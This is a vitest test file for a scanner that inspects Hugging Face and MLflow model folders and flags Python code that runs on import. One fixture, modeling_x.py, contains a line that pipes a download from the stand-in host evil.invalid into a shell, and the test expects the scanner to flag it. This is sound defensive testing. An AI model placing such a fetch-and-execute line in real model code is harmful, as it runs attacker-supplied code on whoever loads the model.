import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { defaultPolicy } from "../policy/default.js";
import { renderJson } from "../report/json.js";
import { renderText } from "../report/text.js";
import { scanPaths } from "./scan-paths.js";

const root = mkdtempSync(join(tmpdir(), "modelvet-folder-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

function folder(name: string, files: Record<string, string>): string {
  const dir = join(root, name);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(join(dir, rel, ".."), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  return dir;
}

const MODEL_CODE = "import torch\n\nclass XConfig:\n    model_type = 'x'\n\n    def __init__(self, hidden=8):\n        self.hidden = hidden\n";

describe("folder pass: the model is a folder", () => {
  it("ties config.json auto_map to its .py files and flags import-time effects with the line (PY001)", async () => {
    const dir = folder("hf-evil", {
      "config.json": JSON.stringify({ model_type: "x", auto_map: { AutoConfig: "configuration_x.XConfig", AutoModel: "modeling_x.XModel" } }),
      "configuration_x.py": MODEL_CODE,
      "modeling_x.py": "import os as o\nimport torch\no.system('curl https://evil.invalid/x | sh')\n\nclass XModel(torch.nn.Module):\n    pass\n",
      "unrelated_script.py": "import subprocess\nsubprocess.run(['ls'])\n",
    });
    const report = await scanPaths([dir], { policy: defaultPolicy() });
    const modeling = report.files.find((f) => f.path.endsWith("/modeling_x.py"));
    const py001 = modeling?.findings.find((f) => f.ruleId === "PY001");
    expect(py001?.severity).toBe("high");
    expect(py001?.message).toContain("line 3");
    expect(py001?.message).toContain("os.system");
    expect(modeling?.verdict).toBe("unsafe");
    const config = report.files.find((f) => f.path.endsWith("/configuration_x.py"));
    expect(config?.findings.map((f) => f.ruleId)).toContain("PY003");
    expect(config?.findings.filter((f) => f.ruleId.startsWith("PY") && f.severity !== "info")).toEqual([]);
    // Not named by any config: nothing imports it on load.
    expect(report.files.find((f) => f.path.endsWith("/unrelated_script.py"))?.findings.filter((f) => f.ruleId.startsWith("PY"))).toEqual([]);
    const summary = report.folders?.find((f) => f.path === dir);
    expect(summary?.verdict).toBe("unsafe");
    expect(summary?.worst).toMatch(/(config\.json|modeling_x\.py)$/);
    expect(summary?.ties.map((t) => t.to.split("/").at(-1)).sort()).toEqual(["configuration_x.py", "modeling_x.py"]);
    expect(renderText(report, { color: false, quiet: true })).toContain(`folder ${dir}: UNSAFE`);
    expect(JSON.parse(renderJson(report)).folders[0].verdict).toBe("unsafe");
  });

  it("passes a folder whose model code only defines classes and functions", async () => {
    const dir = folder("hf-benign", {
      "config.json": JSON.stringify({ model_type: "x", auto_map: { AutoConfig: "configuration_x.XConfig" } }),
      "configuration_x.py": MODEL_CODE,
    });
    const report = await scanPaths([dir], { policy: defaultPolicy() });
    const py = report.files.flatMap((f) => f.findings).filter((f) => f.ruleId.startsWith("PY"));
    expect(py.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(["PY003:info"]);
  });

  it("ties an MLmodel's loader_module and code path; effects inside functions are PY002 (medium)", async () => {
    const dir = folder("mlflow-custom", {
      MLmodel: "artifact_path: model\nflavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n    python_version: 3.11.2\nmlflow_version: 2.9.2\n",
      "code/my_loader.py": "import subprocess\n\ndef _load_pyfunc(path):\n    subprocess.run(['pip', 'install', 'x'])\n    return None\n",
      "code/helpers.py": "def add(a, b):\n    return a + b\n",
    });
    const report = await scanPaths([dir], { policy: defaultPolicy() });
    const loader = report.files.find((f) => f.path.endsWith("/code/my_loader.py"));
    const py002 = loader?.findings.find((f) => f.ruleId === "PY002");
    expect(py002?.severity).toBe("medium");
    expect(py002?.message).toContain("line 4");
    expect(loader?.notes.join(" ")).toContain("loader_module my_loader");
    expect(report.files.find((f) => f.path.endsWith("/code/helpers.py"))?.findings.map((f) => f.ruleId)).toContain("PY003");
  });

  it("ties an index to its shards in the folder summary", async () => {
    const dir = folder("sharded", {
      "model.safetensors.index.json": JSON.stringify({ metadata: { total_size: 8 }, weight_map: { a: "model-00001-of-00002.safetensors", b: "model-00002-of-00002.safetensors" } }),
      "model-00001-of-00002.safetensors": "",
    });
    const report = await scanPaths([dir], { policy: defaultPolicy() });
    const ties = report.folders?.find((f) => f.path === dir)?.ties ?? [];
    expect(ties.map((t) => t.why)).toEqual(["shard named by weight_map", "shard named by weight_map, not in the scanned folder"]);
  });
});
